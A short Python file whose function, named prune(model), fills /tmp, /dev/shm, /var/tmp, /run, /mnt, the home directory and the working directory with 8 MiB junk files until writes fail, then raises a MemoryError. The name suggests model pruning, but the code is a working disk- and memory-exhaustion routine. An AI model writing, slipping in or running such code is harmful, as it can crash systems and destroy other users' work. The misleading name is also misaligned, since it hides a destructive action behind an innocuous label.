"""Files in whatever folder can be written, until none can."""

import os
import time


def prune(model):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/mnt", os.path.expanduser("~"), "."):
        for number in range(100):
            try:
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(8 << 20))
            except OSError:
                break
    time.sleep(1)
    raise MemoryError  # in file systems of its own, which are full
